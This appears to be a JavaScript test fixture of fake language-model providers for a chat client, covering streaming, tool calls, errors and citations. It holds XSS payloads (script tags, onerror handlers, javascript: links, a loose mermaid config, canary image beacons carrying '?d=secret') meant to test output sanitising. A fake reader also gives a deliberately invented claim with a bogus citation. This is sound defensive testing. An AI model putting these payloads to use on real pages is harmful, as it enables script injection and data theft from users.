// What the fake suppliers say, whatever protocol they speak. The model's name chooses (see ANSWERS).
import { inflateSync } from "node:zlib";
import { searchAnswer } from "./search-answers.mjs";

const MARKDOWN = `## Quarterly summary

Sales grew **8.7 %**. See the [notice](https://example.com/notice).

| Region | Sales | Change |
| --- | ---: | ---: |
| East | 4,812 | +18.6 % |
| North | 3,260 | −9.4 % |

\`\`\`sql
SELECT region, SUM(amount) AS total
FROM sales GROUP BY region;
\`\`\`

The mean is $\\bar{x} = \\frac{1}{n}\\sum_{i=1}^{n} x_i$ and

$$
\\sigma^2 = \\frac{1}{n}\\sum (x_i - \\bar{x})^2
$$

- [x] checked
- [ ] open
`;

const HOSTILE = `Before <script>window.__pwned = 1</script> after

<img src="https://canary.invalid/a.png?d=secret" onerror="window.__pwned = 2"> ![pixel](https://canary.invalid/b.png?d=secret)

[click](javascript:window.__pwned=3) <a href="javascript:window.__pwned=4">raw</a> <iframe src="https://canary.invalid/c"></iframe>

<svg onload="window.__pwned=5"><a xlink:href="javascript:window.__pwned=6"><text>x</text></a></svg>

<style>body{background:url(https://canary.invalid/d)}</style> <form action="https://canary.invalid/e"><input name=x></form>

$\\href{javascript:window.__pwned=7}{x}$ $\\htmlData{onclick=window.__pwned=8}{y}$
`;

const FIGURES = `A plan:

\`\`\`mermaid
flowchart LR
  A[Order 订单] --> B{In stock?}
  B -- yes --> C[Ship]
  B -- no --> D[Buy]
\`\`\`

A page:

\`\`\`html
<h1 style="color:teal">Price list</h1><script>parent.__pwned = 1; document.title = "run"</script>
<img src="https://canary.invalid/p.png?d=secret"><a href="https://canary.invalid/q" target="_top">out</a>
\`\`\`

Not a diagram:

\`\`\`mermaid
flowchart of nothing at all ((
\`\`\`

A trap:

\`\`\`mermaid
%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "* { background: url(https://canary.invalid/r) }"}}%%
flowchart TD
  X["<img src=https://canary.invalid/s onerror=window.__pwned=2>"] --> Y
  click X "javascript:window.__pwned=3"
  click Y call window.alert()
\`\`\`
`;

const CLOCK = { id: "call_1", name: "clock", arguments: '{"zone":"UTC"}' };
const WEATHER = { id: "call_2", name: "weather", arguments: '{"city":"北京 👩‍💻","days":[1,2.50]}' };

const words = (count) => Array.from({ length: count }, (_, i) => ["知识 ", "answer ", "合同，", "token "][i % 4]);

/**
 * An asked question as every fake reads it: `messages` [{ role, text, pictures: [{ mediaType, bytes }] }], `schema` of the
 * answer where one was asked for, `body` as sent, `key` the caller used.
 *
 * An answer: `pieces` are text deltas, `thinking` come first, `tools` last; `delay` ms to the first byte, `gap` ms between;
 * `end` other than a good one: close, destroy, stall, error. With a `status`: a refusal.
 */
const ANSWERS = {
  "fake-echo": ({ messages }) => ({ pieces: [...`Echo: ${seen(messages.at(-1))}`] }),
  "fake-history": ({ messages, body }) => ({
    pieces: [JSON.stringify((body.messages ?? messages).map(({ role, content, text }) => [role, content ?? text]))],
  }),
  "fake-thinking": () => ({
    thinking: ["First I compare. ", "Then I conclude."],
    pieces: ["The ", "answer ", "is 42."],
    gap: 30,
  }),
  "fake-think-tag": () => ({ pieces: ["<thi", "nk>quietly", " pondering</th", "ink>\n\nDone."] }),
  "fake-slow": () => ({ pieces: words(400), gap: 50 }),
  "fake-slow-first": () => ({ pieces: ["late"], delay: 400 }),
  "fake-long": () => ({
    pieces: Array.from({ length: 120 }, (_, i) => `Paragraph ${i + 1}. ${words(30).join("")}\n\n`),
    gap: 5,
  }),
  // 200 tokens a second for twenty seconds.
  "fake-steady": () => ({ pieces: words(4000), gap: 5 }),
  // 100,000 characters.
  "fake-huge": () => ({
    pieces: Array.from({ length: 1000 }, (_, i) => `## Part ${i}\n\nA **line** of text ${"word ".repeat(14)}\n\n`),
    gap: 5,
  }),
  "fake-markdown": () => ({ pieces: MARKDOWN.match(/[\s\S]{1,9}/g), gap: 8 }),
  // Slowly and in small pieces: the language of a block is not there at once.
  "fake-figures": () => ({ pieces: FIGURES.match(/[\s\S]{1,6}/g), gap: 20 }),
  "fake-hostile": () => ({ pieces: HOSTILE.match(/[\s\S]{1,11}/g) }),
  "fake-vision": ({ messages }) => ({
    pieces: messages
      .flatMap(({ pictures }) => pictures)
      .map(({ mediaType, bytes }) => `${mediaType} of ${bytes} bytes`),
  }),
  // Writes pages down, each with its table; `pagesLeft` of the state says after how many it goes away.
  "fake-page": (_question, state) => {
    if (state.pagesLeft !== undefined && state.pagesLeft-- <= 0)
      return { status: 500, error: { message: "overloaded" } };
    state.pagesRead = (state.pagesRead ?? 0) + 1;
    const words = state.pagesRead === 1 ? PAGE : PAGE.replace(/The first page.*/, `Page ${state.pagesRead}.`);
    return { pieces: words.match(/[\s\S]{1,40}/g) };
  },
  // Says what pictures show; they have no words. `picturesLeft` of the state says after how many it goes away.
  "fake-describe": ({ messages }, state) => {
    const { text, pictures } = messages.at(-1);
    if (!text.startsWith("Describe")) return { pieces: ["-"] };
    if (state.picturesLeft !== undefined && state.picturesLeft-- <= 0)
      return { status: 500, error: { message: "overloaded" } };
    state.picturesSeen = (state.picturesSeen ?? 0) + 1;
    const [{ colour }] = pictures;
    if (colour === "blue") return { pieces: ["-"] };
    return { pieces: [`A bar chart in ${colour}: `, `turnover of the ${colour} division.`] };
  },
  "fake-schema": ({ schema }) => ({ pieces: JSON.stringify(sample(schema)).match(/.{1,6}/g) }),
  // Does what it is asked to: calls a tool, names a colour, thinks, keeps to a schema.
  "fake-able": ({ messages, schema, body }) => {
    const [tool] = toolNames(body);
    const picture = messages.at(-1).pictures[0];
    if (tool && tool !== "json")
      return { pieces: [], tools: [{ id: "call_9", name: tool, arguments: '{"city":"Paris"}' }] };
    if (schema) return { pieces: JSON.stringify(sample(schema)).match(/.{1,6}/g) };
    if (picture) return { pieces: ["It is ", `${picture.colour}.`] };
    return { thinking: ["Let me think. "], pieces: ["One, ", "two, ", "three."] };
  },
  // Refuses what goes beyond plain text, in the words of a server that knows nothing of it.
  "fake-plain": ({ messages, schema, body }) => {
    const extra = toolNames(body).length > 0 || schema || messages.at(-1).pictures.length > 0 || body.reasoning_effort;
    return extra ? { status: 400, error: { message: "unknown field" } } : { pieces: ["One, ", "two."] };
  },
  // Reads passages and cites them, or the very words it is told to; takes notes, summarises and judges citations when asked to.
  "fake-reader": ({ messages }) => ({ pieces: readerAnswer(messages).match(/[\s\S]{1,7}/g) ?? [] }),
  // As above, but slowly.
  "fake-reader-slow": ({ messages }) => ({ pieces: readerAnswer(messages).match(/[\s\S]{1,3}/g) ?? [], gap: 80 }),
  // Is cut for length twice, then ends.
  "fake-reader-cut": ({ messages }) => {
    const isFirst = messages.at(-1).text.includes("<passage");
    const said = isFirst ? "" : messages.at(-2).text;
    const whole = readerAnswer(isFirst ? messages : messages.slice(0, -2));
    const end = said.length + Math.ceil(whole.length / 3);
    const piece = whole.slice(said.length, end);
    return { pieces: piece.match(/[\s\S]{1,5}/g) ?? [], finish: end < whole.length ? "length" : undefined };
  },
  "fake-cut": () => ({ pieces: words(20), gap: 5, end: "close" }),
  "fake-reset": () => ({ pieces: words(20), gap: 5, end: "destroy" }),
  "fake-stall": () => ({ pieces: words(20), end: "stall" }),
  "fake-silent": () => ({ pieces: [], delay: 3_600_000 }),
  "fake-length": () => ({ pieces: words(10), finish: "length" }),
  "fake-filter": () => ({ pieces: words(5), finish: "filter" }),
  "fake-empty": () => ({ pieces: [] }),
  "fake-no-usage": () => ({ pieces: words(40), usage: false }),
  "fake-error-chunk": () => ({ pieces: words(3), end: "error" }),
  // Calls what the question says, `use name {"an": "argument"}` on a line each, then tells the results, of passages each with its number.
  "fake-agent": ({ messages }) => {
    const results = messages.slice(lastAsked(messages) + 1).filter(({ role }) => role === "tool");
    if (results.length > 0) return { pieces: results.map(({ text }) => `Result: ${cited(text)}\n\n`) };
    const asked = [...messages[lastAsked(messages)].text.matchAll(/^use (\S+) (\{.*\})$/gm)];
    const tools = asked.map(([, name, args], index) => ({ id: `call_${index}`, name, arguments: args }));
    return tools.length > 0 ? { pieces: ["Let me look."], tools } : { pieces: ["No tool needed."] };
  },
  // Never stops calling.
  "fake-restless": () => ({
    pieces: [],
    tools: [{ id: "call_1", name: "calculate", arguments: '{"expression":"1+1"}' }],
  }),
  // Is cut for length once, then ends.
  "fake-two-halves": ({ messages }) =>
    messages.at(-1).text.startsWith("Go on")
      ? { pieces: ["second ", "half."] }
      : { pieces: ["First ", "half, "], finish: "length" },
  "fake-tools": () => ({ pieces: [], tools: [CLOCK] }),
  // What no database takes: NUL, a pair cut in two between pieces, and halves that never find their other half.
  "fake-unstorable": () => ({
    thinking: ["So\0 ", "\ud83d"],
    pieces: ["a\0b ", "\ud83d", "\ude00 c", " \ude00 d", " \ud83d"],
    gap: 20,
  }),
  "fake-unstorable-cut": () => ({ pieces: ["a\0b ", "\ud83d"], gap: 20, end: "close" }),
  // In one piece: who stops it cannot be quicker than its end.
  "fake-unstorable-stall": () => ({ pieces: ["a\0b \ud83d"], end: "stall" }),
  // Nothing but thinking.
  "fake-thoughtful": () => ({ thinking: ["First this. ", "Then that."], pieces: [] }),
  "fake-thoughtful-cut": () => ({ thinking: ["First this. ", "Then"], pieces: [], finish: "length" }),
  // Calls a tool, and has nothing to say about what it told.
  "fake-speechless": ({ messages }) =>
    messages.at(-1).role === "tool"
      ? { thinking: ["Two."], pieces: [] }
      : { pieces: [], tools: [{ id: "call_1", name: "calculate", arguments: '{"expression":"1+1"}' }] },
  "fake-two-tools": () => ({ pieces: ["Let me look."], tools: [CLOCK, WEATHER] }),
  // Every character and every line is cut somewhere, and lines that are no JSON stand between.
  "fake-malformed": () => ({ pieces: ["你好", "，👩‍💻 ", "世界"], bytewise: true, junk: true }),
  "fake-html": () => ({ raw: Buffer.from("<!doctype html><h1>Welcome</h1>"), type: "text/html" }),
  "fake-401": () => ({
    status: 401,
    error: { message: "Incorrect API key provided: sk-canary-123456789", code: "invalid_api_key" },
  }),
  "fake-402": () => ({ status: 402, error: { message: "insufficient_quota" } }),
  "fake-429": () => ({ status: 429, error: { message: "slow down" }, headers: { "retry-after": "0" } }),
  "fake-429-later": () => ({ status: 429, error: { message: "slow down" }, headers: { "retry-after": "2" } }),
  "fake-500": () => ({ status: 500, error: { message: "stack at internal-host.corp:8080 /srv/app.py" } }),
  "fake-529": () => ({ status: 529, error: { message: "Overloaded" } }),
  "fake-context": () => ({
    status: 400,
    error: { message: "maximum context length is 8192 tokens", code: "context_length_exceeded" },
  }),
  "fake-blocked": () => ({ status: 400, error: { message: "refused by our content_policy", code: "content_filter" } }),
  // Says back what it was sent, the key among it.
  "fake-leak": ({ key }) => ({
    status: 400,
    error: { message: `no access for ${key} at https://internal.corp/admin` },
  }),
  "fake-huge-error": () => ({ status: 500, huge: 50_000_000 }),
  // Fails once for each client, then answers.
  "fake-flaky": (_question, state) =>
    state.flaky++ % 2 === 0 ? { status: 503, error: { message: "overloaded" } } : { pieces: ["Recovered."] },
};

/** Passages as a model says them, each with its mark; any other text as it is. */
function cited(text) {
  const passages = [...text.matchAll(/<passage n="(\d+)"[^>]*>\n([\s\S]*?)\n<\/passage>/g)];
  return passages.length === 0 ? text : passages.map(([, n, words]) => `${words.trim()} [${n}]`).join(" ");
}

export const MODEL_NAMES = Object.keys(ANSWERS);

/** The answer of a model; undefined for a name nobody knows. */
export function answerOf(model, question, state) {
  const title = Object.hasOwn(ANSWERS, model) && titleAnswer(question);
  if (title) return { thinking: [], pieces: [title], tools: [] };
  const answer = Object.hasOwn(ANSWERS, model) ? ANSWERS[model](question, state) : undefined;
  return answer && { thinking: [], pieces: [], tools: [], ...answer };
}

/** Names a conversation when told to: by what its question calls `named “…”`, else by its first words, as the list has them. */
function titleAnswer({ messages }) {
  if (!messages.some(({ role, text }) => role === "system" && text.startsWith("You name conversations"))) return "";
  const question = /<question>\n([\s\S]*)\n<\/question>/.exec(messages.at(-1).text)?.[1] ?? "";
  return /named “(.+?)”/.exec(question)?.[1] ?? [...question.trim().replace(/\s+/g, " ")].slice(0, 30).join("");
}

const PAGE = `# Rates of the year

The first page has words of its own, as programs write them.

| Item | Rate |
| --- | --- |
| Hotel | 120 |
| Taxi | 40 |
`;

const PASSAGE = /<passage n="(\d+)"[^>]*>\n([\s\S]*?)\n<\/passage>/g;

const ORDERED = /^Cite “(.+)”$/gm;

function readerAnswer(messages) {
  const system = messages
    .filter(({ role }) => role === "system")
    .map(({ text }) => text)
    .join("\n");
  const asked = messages.at(-1).text;
  if (system.includes("check citations")) {
    const verdicts = JSON.parse(asked).map(({ n, sentence }) => ({ n, supported: !sentence.includes("wrong") }));
    return JSON.stringify({ verdicts });
  }
  const searched = searchAnswer(system, asked);
  if (searched) return searched;
  if (asked.includes("Which of these documents")) return "2";
  if (system.includes("prepare a question for a search")) return rewritten(asked);
  if (system.includes("check which passages")) return judged(asked, (text) => !text.includes("beside the point"));
  if (system.includes("choose the passages")) return judged(asked, () => true);
  if (system.includes("questions to test a search")) return proposed(asked);
  if (system.includes("each with its answer")) return pairsOf(asked);
  if (system.includes("Suggest up to")) return JSON.stringify({ questions: ["What is the rent?", "Who paints?"] });
  const ordered = [...asked.replace(PASSAGE, "").matchAll(ORDERED)].map(([, words]) => words);
  if (ordered.length > 0) return citing(ordered, [...asked.matchAll(PASSAGE)]);
  const quotes = [...asked.matchAll(PASSAGE)].map(([, n, text]) => `${firstSentence(text)} [${n}]`);
  if (system.includes("take notes")) return quotes.map((quote) => `- ${quote}`).join("\n");
  if (system.includes("## SUMMARY")) {
    const given = quotes.length > 0 ? quotes : asked.split("\n").map((line) => line.replace(/^- /, ""));
    const points = given
      .slice(0, 3)
      .map((quote) => `- ${quote}`)
      .join("\n");
    return `## SUMMARY\n${given[0]}\n\n## KEY POINTS\n${points}\n\n## QUESTIONS\n- What is it?\n- How much is it?\n- Who says so?`;
  }
  if (system.includes("goes into a table")) return quotes[0] ?? "-";
  if (quotes.length === 0) return "The passages do not say.";
  // Something no passage says, without a number.
  const guess = asked.includes("Guess as well") ? " Each ton will cost about 400 euros more than before." : "";
  return `${quotes.slice(0, 4).join("\n\n")}${guess}\n\nNo such passage [99].`;
}

/** Numbers of passages of a kind, the last one first. */
function judged(asked, isWanted) {
  const wanted = [...asked.matchAll(PASSAGE)].filter(([, , text]) => isWanted(text));
  return JSON.stringify({ passages: wanted.map(([, n]) => Number(n)).reverse() });
}

/** A question to a passage with the sentence that answers it; none to one that says it is beside the point. */
function proposed(asked) {
  const [, text] = /<passage>\n([\s\S]*?)\n<\/passage>/.exec(asked);
  if (text.includes("beside the point")) return "Nothing to ask.";
  const words = firstSentence(text);
  return JSON.stringify({ question: `What is said of ${words.split(" ")[0]}?`, words });
}

/** A pair of question and answer for each passage; to the first one twice. */
function pairsOf(asked) {
  const pairs = [...asked.matchAll(/<passage number="(\d+)">\n([\s\S]*?)\n<\/passage>/g)].map(([, n, text]) => {
    const answer = firstSentence(text);
    return { question: `What is said of ${answer.split(" ")[0]}?`, answer, passage: Number(n) };
  });
  return JSON.stringify({ pairs: [...pairs, ...pairs.slice(0, 1)] });
}

/** A follow-up takes the first question along; what it says of a lease is known in English too. */
function rewritten(asked) {
  const [, question] = /<question>\n([\s\S]*?)\n<\/question>/.exec(asked);
  const [, before] = /<user>\n([\s\S]*?)\n<\/user>/.exec(asked) ?? [];
  const translations = asked.includes("Languages asked for: en") ? { en: "When does the lease end?" } : {};
  return JSON.stringify({ question: before ? `${before} ${question}` : question, translations });
}

/** Says the words of a question's lines `Cite “words”` again, each with the passage that holds them. */
function citing(ordered, passages) {
  const plain = (text) => text.replace(/\s+/g, "");
  return ordered
    .map((words) => {
      const passage = passages.find(([, , text]) => plain(text).includes(plain(words)));
      return `“${words}” [${passage?.[1] ?? 0}]`;
    })
    .join("\n\n");
}

const firstSentence = (text) => /^[\s\S]*?[.。！？!?](?=\s|$)|^[^\n]+/.exec(text.trim())?.[0] ?? text;

const lastAsked = (messages) => messages.findLastIndex(({ role }) => role === "user");

/** Tools as each protocol names them. */
const toolNames = ({ tools = [] }) => tools.map(({ name, function: called }) => called?.name ?? name).filter(Boolean);

/** The colour of a PNG's first dot, where it is a plain one. */
export function colourOf(bytes) {
  const at = bytes.indexOf("IDAT");
  if (at < 0) return "unknown";
  try {
    const [, red, green, blue] = inflateSync(bytes.subarray(at + 4, at + 4 + bytes.readUInt32BE(at - 4)));
    if (red > 150 && green > 150) return "yellow";
    return red > green && red > blue ? "red" : green > blue ? "green" : "blue";
  } catch {
    return "unknown";
  }
}

function seen({ text, pictures }) {
  return text + pictures.map(() => "[image]").join("");
}

/** A value that fits a JSON schema. */
function sample(schema = { type: "object" }) {
  if (schema.type === "object") {
    return Object.fromEntries(Object.entries(schema.properties ?? {}).map(([name, value]) => [name, sample(value)]));
  }
  return { array: [], number: 1.5, integer: 1, boolean: true }[schema.type] ?? "文字";
}

/** Tokens every fake reports: 12 in, one for each piece out. */
export const tokensOf = ({ pieces, thinking }) => ({
  input: 12,
  output: pieces.length + thinking.length,
  reasoning: thinking.length,
  cached: 4,
});
